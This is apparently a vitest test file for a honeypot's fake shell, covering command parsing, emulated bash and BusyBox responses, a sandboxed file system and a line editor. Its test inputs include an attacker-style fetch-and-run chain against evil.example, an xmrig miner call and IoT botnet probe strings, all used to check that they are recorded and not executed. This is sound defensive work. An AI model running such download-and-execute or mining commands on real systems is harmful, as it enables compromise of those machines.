import { describe, expect, it } from 'vitest';
import { decodeEchoEscapes } from './commands.js';
import { createFakeShell } from './fake-shell.js';
import { createLineEditor } from './line-editor.js';
import { parseCommandLine } from './parse.js';

function aShell(flavor: 'bash' | 'busybox' = 'bash') {
  const seen = { inputs: [] as string[], failed: [] as string[], downloads: [] as [string, string][] };
  const shell = createFakeShell({
    flavor,
    username: 'root',
    now: () => new Date('2026-12-02T15:00:00Z'),
    observer: {
      commandInput: (i) => seen.inputs.push(i),
      commandFailed: (i) => seen.failed.push(i),
      download: (u, d) => seen.downloads.push([u, d]),
    },
  });
  return { shell, seen, run: (line: string) => shell.execute(line).output };
}

describe('command line parser', () => {
  it('splits ; && || | and keeps quoted words whole', () => {
    const parsed = parseCommandLine(`cd /tmp && echo "a b" 'c;d' | grep a; x || y`);
    expect(parsed.map((p) => p.op)).toEqual([';', '&&', ';', '||']);
    expect(parsed[1]?.pipeline.map((c) => c.argv)).toEqual([['echo', 'a b', 'c;d'], ['grep', 'a']]);
  });

  it('reads redirections, ignoring descriptor duplication', () => {
    const [first] = parseCommandLine('echo hi >> /tmp/x 2>/dev/null 2>&1');
    expect(first?.pipeline[0]).toEqual({ argv: ['echo', 'hi'], redirects: [{ path: '/tmp/x', append: true }, { path: '/dev/null', append: false }] });
  });

  it('closes an unbalanced quote at the end of the line', () => {
    expect(parseCommandLine(`echo 'abc`)[0]?.pipeline[0]?.argv).toEqual(['echo', 'abc']);
  });
});

describe('fake shell', () => {
  it('answers reconnaissance commands plausibly', () => {
    const { run } = aShell();
    expect(run('uname -a')).toBe('Linux svr04 5.10.0-28-amd64 #1 SMP Debian 5.10.209-2 (2024-01-31) x86_64 GNU/Linux\n');
    expect(run('id')).toBe('uid=0(root) gid=0(root) groups=0(root)\n');
    expect(run('cat /proc/cpuinfo | grep "model name" | wc -l')).toBe('2\n');
    expect(run('nproc')).toBe('2\n');
    expect(run('free -m')).toContain('Mem:');
    expect(run('ip a')).toContain('inet 10.0.2.15/24');
    expect(run('ps aux')).toContain('sshd');
    expect(run('head -n 1 /etc/passwd')).toBe('root:x:0:0:root:/root:/bin/bash\n');
  });

  it('keeps a writable per-session file system', () => {
    const { shell, run } = aShell();
    expect(run('pwd')).toBe('/root\n');
    run('cd /tmp; mkdir work; cd work; echo payload > a.sh; chmod +x a.sh');
    expect(shell.cwd()).toBe('/tmp/work');
    expect(run('cat a.sh')).toBe('payload\n');
    expect(run('ls -l')).toMatch(/^total 4\n-rwxr-xr-x 1 root root/);
    run('rm -rf /tmp/work');
    expect(run('ls /tmp/work')).toBe("ls: cannot access '/tmp/work': No such file or directory\n");
    expect(aShell().run('ls /tmp/work')).toContain('No such file');
  });

  it('never executes: unknown commands fail, downloads are only recorded', () => {
    const { run, seen } = aShell();
    expect(run('xmrig --donate-level 1')).toBe('bash: xmrig: command not found\n');
    expect(run('./a.out')).toBe('bash: ./a.out: No such file or directory\n');
    expect(run('cd /tmp && curl -o x http://evil.example/x && chmod 777 x && ./x')).toBe('curl: (6) Could not resolve host: evil.example\n');
    expect(seen.downloads).toEqual([['http://evil.example/x', '/tmp/x']]);
    expect(seen.failed).toEqual(['xmrig --donate-level 1', './a.out']);
    expect(seen.inputs).toHaveLength(3);
  });

  it('interprets sudo, sh -c and busybox applets through the same emulation', () => {
    const { run, shell } = aShell();
    expect(run('sudo sh -c "whoami"')).toBe('root\n');
    expect(run('busybox uname -m')).toBe('x86_64\n');
    expect(run('history')).toContain('sudo sh -c "whoami"');
    expect(shell.execute('exit').exit).toBe(true);
  });

  it('behaves like BusyBox for IoT probes', () => {
    const { run, shell } = aShell('busybox');
    expect(run('enable')).toBe('');
    expect(run('/bin/busybox ECCHI')).toBe('ECCHI: applet not found\n');
    expect(run('foo')).toBe('-sh: foo: not found\n');
    expect(run(`echo -e '\\x45\\x43\\x43\\x48\\x49'`)).toBe('ECCHI\n');
    expect(shell.prompt()).toBe('# ');
  });

  it('bounds nesting and file system growth', () => {
    const { run } = aShell();
    expect(run(`sh -c "sh -c 'sh -c \\"sh -c id\\"'"`)).toBe('uid=0(root) gid=0(root) groups=0(root)\n');
    const big = 'A'.repeat(600_000);
    run(`echo ${big} > /tmp/a`);
    run(`echo ${big} > /tmp/b`);
    expect(run('ls /tmp')).toBe('a\n');
  });
});

describe('echo -e decoding', () => {
  it('decodes hex, octal and C escapes', () => {
    expect(decodeEchoEscapes('\\x41\\0102\\t\\n\\\\')).toBe('AB\t\n\\');
  });
});

describe('line editor', () => {
  it('echoes, handles backspace, ^C, escape sequences and caps line length', () => {
    const ed = createLineEditor(4);
    const out = ed.feed('ab\x7fc\x1b[Ad\r\n');
    expect(out.lines).toEqual(['acd']);
    expect(out.echo).toBe('ab\b \bcd\r\n');
    expect(ed.feed('xy\x03').interrupted).toBe(true);
    expect(ed.feed('123456\r').lines).toEqual(['1234']);
    expect(ed.truncated).toBe(2);
    expect(ed.feed('\x04').eof).toBe(true);
    ed.echo = false;
    expect(ed.feed('secret\r').echo).toBe('');
  });
});
